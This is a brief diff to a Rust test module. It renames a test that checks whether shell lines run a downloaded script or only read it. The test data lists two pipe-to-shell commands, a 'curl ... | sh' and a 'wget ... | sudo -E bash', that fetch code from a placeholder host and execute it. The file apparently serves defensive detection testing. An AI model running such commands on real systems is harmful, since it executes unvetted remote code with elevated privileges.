@@ -115,7 +115,7 @@ mod tests {
 
     // SPEC 2.14
     #[test]
-    fn what_runs_a_download_is_told_from_what_reads_it() {
+    fn running_a_download_is_distinguished_from_reading_it() {
         for line in [
             "curl -fsS https://x.y/install | sh",
             "`wget -qO- https://x.y | sudo -E bash`",
